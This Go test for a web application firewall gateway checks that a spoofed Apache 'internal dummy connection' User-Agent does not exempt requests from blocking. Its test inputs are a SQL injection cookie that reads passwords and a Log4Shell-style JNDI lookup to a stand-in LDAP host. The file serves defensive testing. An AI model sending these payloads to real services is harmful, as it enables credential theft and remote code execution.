package gateway

import (
	"net/http"
	"testing"
)

// TestNoApacheExceptions: CRS's common exceptions (REQUEST-905) turn every
// CRS rule off for Apache's own "internal dummy connection", recognised by
// a loopback client, "GET /" and a User-Agent ending in "(internal dummy
// connection)", all of which a client chooses or, behind a proxy on the
// same host, has. The gateway is no Apache: such a request is judged like
// any other.
func TestNoApacheExceptions(t *testing.T) {
	f := newFixture(t, baseYAML+"rate_limit:\n  off: true\n")
	for _, c := range []struct{ name, header, value string }{
		{"SQL injection in a cookie", "Cookie", "id=1%27%20UNION%20SELECT%20password%20FROM%20users--"},
		{"JNDI lookup in a header", "X-Api-Version", "${jndi:ldap://203.0.113.9/a}"},
	} {
		for _, ua := range []string{"curl/8.5.0", "Apache/2.4.62 (Debian) (internal dummy connection)"} {
			r := f.req("GET", "/", nil)
			r.Header.Set("User-Agent", ua)
			r.Header.Set(c.header, c.value)
			if code, _, _ := f.do(r); code != http.StatusForbidden {
				t.Errorf("%s from a loopback client, User-Agent %q: %d, want 403", c.name, ua, code)
			}
		}
	}
}
